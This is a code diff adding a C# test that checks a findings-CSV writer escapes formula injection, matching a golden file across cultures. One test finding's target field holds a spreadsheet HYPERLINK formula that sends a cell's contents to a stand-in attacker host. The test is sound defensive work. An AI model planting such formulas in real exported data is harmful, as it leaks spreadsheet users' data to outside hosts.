@@ -155,6 +155,28 @@ public sealed class CsvInjectionTests
         Assert.That(Cells(csv).Skip(1).SelectMany(row => row), Has.All.Matches<string>(IsNumber));
     }
 
+    /// <summary>Findings as the detector's rules word them, one with a target a server sent to make a spreadsheet run a
+    /// formula: the file is byte for byte the golden one, in any culture.</summary>
+    [TestCaseSource(nameof(Cultures))]
+    public void FindingsCsv_FixedFindingsOneHostileTarget_MatchesGolden(string culture)
+    {
+        using var scope = new CultureScope(culture);
+        Finding[] findings =
+        [
+            new("slow_endpoint", Severity.Critical, "GET /boards/{id}/posts", 1047.123456, "ms", 500,
+                "histogram_quantile(0.95, sum by (le, route) (rate(http_request_duration_seconds_bucket[5m])))",
+                "Look at GET /boards/{id}/posts first: its p95 is twice the threshold."),
+            new("error_rate", Severity.Warning, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", 0.125, "ratio", 0.05,
+                "sum(rate(http_requests_total{code=~\"5..\"}[5m]))", "-- check the server's log"),
+            new("memory_growth", Severity.Info, "forum-api", -1.5, "MB/min", null, "deriv(process_working_set_bytes[5m])", "@ nothing to do"),
+        ];
+
+        byte[] csv = Written(s => FindingsCsv.Write(s, findings));
+
+        GoldenFile.AssertMatches("findings.csv", csv);
+        Assert.That(FindingsCsv.Read(new MemoryStream(csv)), Is.EqualTo(findings));
+    }
+
     /// <summary>Golden writers: files written before the escaping existed hold no text starting with a formula
     /// character, so they still read, and write, to the same bytes.</summary>
     [TestCase("performance_summary.csv")]
